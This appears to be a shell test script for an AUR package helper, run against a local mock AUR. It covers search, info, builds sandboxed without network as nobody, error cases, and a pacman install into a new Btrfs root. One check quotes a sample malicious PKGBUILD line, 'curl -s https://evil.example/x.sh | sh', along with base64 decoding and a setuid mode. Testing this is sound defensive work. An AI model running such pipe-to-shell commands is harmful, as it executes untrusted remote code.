#!/bin/sh
# SPDX-License-Identifier: LGPL-2.1-or-later
# koompi-pkg-aur against an AUR made by the test on 127.0.0.1 (Debian's nginx): RPC v5 answers
# as static files chosen by the query, PKGBUILD repositories over git's dumb HTTP. Search and
# info (the PKGBUILD in the facts, a malicious-looking one returned as it is); a clean package
# built by makepkg as nobody, without network in build(); a build that fails (a clear error,
# nothing left behind), one whose makedepends is not installed (named); an unknown package; the network down. build() writing to /var/tmp
# leaves nothing there: the sandbox's /var/tmp is its own. Then the built package installed
# into a new root by a real pacman through koompi-boot update, the old root untouched.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-nginx.sh"
. "$(dirname "$0")/lib-aur.sh"
. "$(dirname "$0")/lib-roots.sh"
. "$(dirname "$0")/lib-figures.sh"
AUR=$(dirname "$K")/koompi-pkg-aur
RUNDIR=""
RUN_MADE=""
leave_run() {
	rm -f /var/tmp/koompi-build-leftover
	[ -z "$RUNDIR" ] || rm -rf "$RUNDIR"
	[ -z "$RUN_MADE" ] || rmdir /run/koompi 2>/dev/null
}
trap 'stop_nginx; leave_run; cleanup' EXIT INT TERM
for tool in nginx curl git makepkg fakeroot python3; do
	command -v $tool >/dev/null || { not_ok "$tool is installed" "make deps"; finish; exit 1; }
done
[ -x "$AUR" ] || { not_ok "koompi-pkg-aur is built" "make $AUR"; finish; exit 1; }

NGINX_SERVER_EXTRA=$AUR_NGINX
check "nginx on 127.0.0.1" start_nginx
mkdir -p "$T/mirror/rpc" "$T/mirror/files" "$T/pkgs"
echo "from the network" >"$T/mirror/files/data.txt"

package koompi-hello "source=(\"$MIRROR/files/data.txt\")
sha256sums=(SKIP)
build() {
	cp data.txt hello.txt
	if curl -s --max-time 3 -o /dev/null $MIRROR/files/data.txt; then echo online; else echo offline; fi >net.txt
	id -un >user.txt
	: >/var/tmp/koompi-build-leftover || :
}
package() {
	install -Dm644 hello.txt net.txt user.txt -t \"\$pkgdir/usr/share/koompi-hello\"
}" || not_ok "a clean PKGBUILD repository"
package koompi-broken 'build() {
	echo "this build fails" >&2
	false
}
package() { :; }' || not_ok "a failing PKGBUILD repository"
package koompi-needs-tool 'makedepends=(koompi-no-such-tool)
build() {
	koompi-no-such-tool --version
}
package() { :; }' || not_ok "a PKGBUILD repository whose makedepends is not installed"
package koompi-evil "$AUR_EVIL" || not_ok "a malicious-looking PKGBUILD repository"
answer search 2 "$(result koompi-hello "A test package" 3 '"alice"'),$(result koompi-evil "Looks useful" 0 null)" \
	>"$T/mirror/rpc/search-koompi.json"
answer search 0 "" >"$T/mirror/rpc/search-nothing.json"
answer multiinfo 0 "" >"$T/mirror/rpc/info-koompi-nope.json"
printf '[packages]\nuser = nobody\naur_url = %s/\n' "$MIRROR" >"$T/agent.conf"
aur() { "$AUR" --config "$T/agent.conf" "$@"; }
left_behind() { ls -d /var/tmp/koompi-aur.* 2>/dev/null | wc -l; }
before=$(left_behind)

# ---- search and info ----
expect_rc "search" 0 aur search koompi
check "search lists both packages, from the AUR" json_true "$T/out" \
	'[p["name"] for p in j["result"]] == ["koompi-hello", "koompi-evil"] and all(p["source"] == "aur" for p in j["result"])'
check "search gives the version and summary" json_true "$T/out" \
	'j["result"][0]["version"] == "1.0-1" and j["result"][0]["summary"] == "A test package"'
expect_rc "a search finding nothing" 0 aur search nothing
check "an empty list" json_true "$T/out" 'j["result"] == []'
expect_rc "info" 0 aur info koompi-hello
check "info gives the RPC's facts" json_true "$T/out" \
	'(lambda f: f["votes"] == 3 and f["maintainer"] == "alice" and f["out_of_date"] is False and f["first_submitted"] == 1700000000)(j["result"]["facts"])'
check "info gives the PKGBUILD" json_true "$T/out" '"pkgname=koompi-hello" in j["result"]["facts"]["pkgbuild"]'
check "info says a restart is needed" json_true "$T/out" 'j["result"]["needs_restart"] is True'
expect_rc "info of a malicious-looking package" 0 aur info koompi-evil
check "its PKGBUILD is returned as it is" json_true "$T/out" \
	'all(s in j["result"]["facts"]["pkgbuild"] for s in ("curl -s https://evil.example/x.sh | sh", "base64 -d", "4755"))'
grep -q '"GET /koompi-evil.git/' "$T/nginx/access.log" && ok "the PKGBUILD came from the package's git repository" ||
	not_ok "the PKGBUILD came from the package's git repository"
expect_rc "info of an unknown package: exit 2" 2 aur info koompi-nope
check "it says the AUR has no such package" json_true "$T/out" \
	'"no package named" in j["error"] and j["errno"] == 2'
expect_rc "a name that is not a package name: exit 1" 1 aur info '../etc'
check "no build tree is left by info" test "$(left_behind)" -eq "$before"

# ---- build ----
expect_rc "build of a clean package" 0 timed "build by koompi-pkg-aur" "$AUR" --config "$T/agent.conf" build koompi-hello \
	--out "$T/pkgs"
grep '^figure' "$T/err"
PKG=$(python3 -c 'import json,sys; print(json.loads(open(sys.argv[1]).read().splitlines()[-1])["result"]["files"][0])' "$T/out" 2>/dev/null)
grep -q '"progress"' "$T/out" && ok "progress lines before the result" || not_ok "progress lines before the result"
case "$PKG" in "$T"/pkgs/koompi-hello-1.0-1-any.pkg.tar.*) ok "the package file is in --out ($PKG)" ;;
*) not_ok "the package file is in --out" "$PKG" ;; esac
check "it is a real package holding the built file" sh -c "bsdtar -xOf '$PKG' usr/share/koompi-hello/hello.txt | grep -qx 'from the network'"
check "its sources came over the network" sh -c "grep -q 'GET /files/data.txt' '$T/nginx/access.log'"
check "build() ran without network" sh -c "bsdtar -xOf '$PKG' usr/share/koompi-hello/net.txt | grep -qx offline"
check "build() ran as nobody" sh -c "bsdtar -xOf '$PKG' usr/share/koompi-hello/user.txt | grep -qx nobody"
check "build() left nothing in /var/tmp: it had a private one" test ! -e /var/tmp/koompi-build-leftover
check "the package file belongs to root" test "$(stat -c %u "$PKG")" -eq 0
check "no build tree is left by a build" test "$(left_behind)" -eq "$before"
# The same by hand, for the figures: clone and makepkg as nobody.
hand=$(mktemp -d /var/tmp/koompi-by-hand.XXXXXX)
chown nobody "$hand"
timed "the same by git clone and makepkg" setpriv --reuid=nobody --regid=nogroup --clear-groups \
	env HOME="$hand" BUILDDIR="$hand/build" PKGDEST="$hand" SRCDEST="$hand" sh -c \
	"git clone -q '$MIRROR/koompi-hello.git' '$hand/koompi-hello' && cd '$hand/koompi-hello' && makepkg -d >/dev/null 2>&1"
rm -rf "$hand"
expect_rc "a PKGBUILD whose build() fails: exit 6" 6 aur build koompi-broken --out "$T/pkgs"
tail -n1 "$T/out" >"$T/last.json"
check "the error names the failed function" json_true "$T/last.json" '"PKGBUILD" in j["error"] and j["errno"] == 10'
check "nothing of it is in --out" test -z "$(ls "$T/pkgs" | grep broken)"
check "no build tree is left by a failed build" test "$(left_behind)" -eq "$before"
expect_rc "a PKGBUILD whose makedepends is not installed: exit 6" 6 aur build koompi-needs-tool --out "$T/pkgs"
tail -n1 "$T/out" >"$T/last.json"
check "the error names what the build needs" json_true "$T/last.json" \
	'j["error"].startswith("the build needs koompi-no-such-tool, which is not installed: ") and j["errno"] == 10'
check "... and no build tree is left" test "$(left_behind)" -eq "$before"
expect_rc "a build of an unknown package: exit 2" 2 aur build koompi-nope --out "$T/pkgs"
expect_rc "build without --out: exit 1" 1 aur build koompi-hello
expect_rc "--out without build: exit 1" 1 aur info koompi-hello --out "$T/pkgs"

# ---- the network down ----
stop_nginx
expect_rc "search with the AUR down: exit 5" 5 aur search koompi
check "it says the AUR could not be read" json_true "$T/out" '"could not be read" in j["error"] and j["errno"] == 5'
expect_rc "build with the AUR down: exit 5" 5 aur build koompi-hello --out "$T/pkgs"
check "no build tree is left" test "$(left_behind)" -eq "$before"

# ---- the built package into a new root, by a real pacman ----
# add_pacman_root NAME: a shell root with the host's pacman and the libraries it needs, an empty
# package database, and a pacman.conf that takes unsigned local packages.
add_pacman_root() {
	add_shell_root "$1.s" || return 1
	btrfs -q subvolume snapshot "$TOP/$1.s" "$TOP/$1.w" >/dev/null && btrfs -q subvolume delete "$TOP/$1.s" >/dev/null || return 1
	w=$TOP/$1.w
	mkdir -p "$w/var/lib/pacman" "$w/var/cache/pacman/pkg" "$w/lib64" || return 1
	cp /usr/bin/pacman "$w/usr/bin/pacman" || return 1
	for lib in $(ldd /usr/bin/pacman | sed -n 's|.*=> \(/[^ ]*\) .*|\1|p; s|^\t*\(/lib64/[^ ]*\) .*|\1|p'); do
		mkdir -p "$w$(dirname "$lib")" && cp -L "$lib" "$w$lib" || return 1
	done
	printf '[options]\nArchitecture = auto\nSigLevel = Never\nLocalFileSigLevel = Never\n' >"$w/etc/pacman.conf"
	btrfs -q subvolume snapshot -r "$w" "$TOP/$1" >/dev/null && btrfs -q subvolume delete "$w" >/dev/null
}

if [ -z "$BUSYBOX" ] || [ -z "$PKG" ]; then
	echo "test-pkg-aur.sh: the install into a new root SKIPPED: no static busybox, or no package built"
	finish
	exit
fi
check "a Btrfs top level" make_top
check "a root with pacman" add_pacman_root @root-current
make_kernel
make_esp_dir
boot_state @root-current
expect_rc "entries sync" 0 kb entries sync
# The update's sandbox binds the host's /run (not what is mounted below it): the package goes
# there for pacman to see it.
[ -d /run/koompi ] || { mkdir /run/koompi && RUN_MADE=1; }
RUNDIR=$(mktemp -d /run/koompi/pkg-test.XXXXXX)
cp "$PKG" "$RUNDIR/"
cur_before=$(tree_state "$TOP/@root-current")
n0=$(nroots)
expect_rc "pacman -U of the built package, in a new root" 0 kb update --run "pacman -U --noconfirm $RUNDIR/${PKG##*/}"
new=$(newest_root)
check "one new root" test "$(nroots)" -eq $((n0 + 1))
check "the new root has the package's files" grep -qx "from the network" "$TOP/$new/usr/share/koompi-hello/hello.txt"
check "the new root's pacman knows the package" test -d "$TOP/$new/var/lib/pacman/local/koompi-hello-1.0-1"
check "@root-current is untouched" test "$cur_before" = "$(tree_state "$TOP/@root-current")"
check "@root-current has no trace of it" test ! -e "$TOP/@root-current/usr/share/koompi-hello"
check "the roots and entries are consistent" consistent
finish
